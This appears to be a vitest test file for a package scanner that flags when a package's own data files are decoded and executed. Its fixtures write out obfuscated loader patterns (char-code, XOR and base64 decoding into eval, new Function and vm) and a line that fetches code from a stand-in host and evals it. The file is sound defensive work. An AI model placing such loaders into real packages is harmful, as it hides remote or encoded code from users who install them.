import { describe, expect, it } from 'vitest';
import { gatherEvidence } from '../../../src/analyze/index.js';
import { ownRules, packageOf } from '../in-memory.js';

const LIST = Array.from({ length: 40 }, (_, index) => (index * 7) % 120);
const DATA = JSON.stringify({ a: { name: 'plain' }, b: { list: LIST, word: 'aGVsbG8gd29ybGQ'.repeat(20) } });

/** What the code that is run carries of the package's own data. */
const ran = (code: string): string[] => {
  const files = packageOf({ 'cli.js': code, 'data.json': DATA }, { bin: { sample: 'cli.js' } });
  const seen = gatherEvidence(files, ownRules()).packages.flatMap(({ observations }) => observations);
  return seen
    .filter(({ sink }) => sink === 'code.eval')
    .flatMap(({ taints }) => taints.filter(({ source }) => source === 'file.own'))
    .map(({ detail, through }) => [detail, ...through].join(' '));
};
const START = "const data = require('./data.json'); const name = process.argv[2];\n";

describe('opaque data of the package', () => {
  it.each([
    ['new Function(String.fromCharCode(...(data[name].list || data.b.list)))()', './data.json'],
    ['eval(Buffer.from((data[name] || data.b).list.map((n, i) => n ^ (i & 7))).toString())', './data.json xor'],
    [
      "let s = ''; for (const n of data[name].list) { let c = n; c ^= 9; s += String.fromCharCode(c); } eval(s)",
      './data.json xor',
    ],
    [
      "require('vm').runInThisContext(Buffer.from((data[name] ?? data.b).word, 'base64').toString())",
      './data.json base64 decoded',
    ],
  ])('is known where it is run: %s', (code, found) => {
    expect(ran(START + code)).toContain(found);
  });

  it('is nothing where it only stands beside what is run', () => {
    expect(ran(`${START}console.log(data[name].list); eval(name)`)).toEqual([]);
    expect(ran(`${START}new Function('return ' + JSON.stringify(data.a.name))()`)).toEqual([]);
  });
});

describe('a script of a context', () => {
  it('sees what it is handed', () => {
    const code = `new (require('vm').Script)("load('https').get('https://a.example', (r) => r.on('data', eval))").runInNewContext({ load: require })`;
    const { packages } = gatherEvidence(packageOf({ 'cli.js': code }, { bin: { sample: 'cli.js' } }), ownRules());
    expect(packages.flatMap(({ observations }) => observations.map(({ target }) => target))).toContain(
      'https://a.example',
    );
  });

  it('is more than the number of a version', () => {
    const carried = (content: string): string[] => {
      const code = "eval('run(' + require('fs').readFileSync(__dirname + '/version').toString().trim() + ')');";
      const files = packageOf({ 'cli.js': code, version: content }, { bin: { sample: 'cli.js' } });
      const seen = gatherEvidence(files, ownRules()).packages.flatMap(({ observations }) => observations);
      return seen.flatMap(({ taints }) => taints.map(({ source }) => source)).filter((each) => each === 'file.own');
    };
    expect(carried('v1.13.0-rc.2\n')).toEqual([]);
    expect(carried('go()\n')).not.toEqual([]);
  });
});
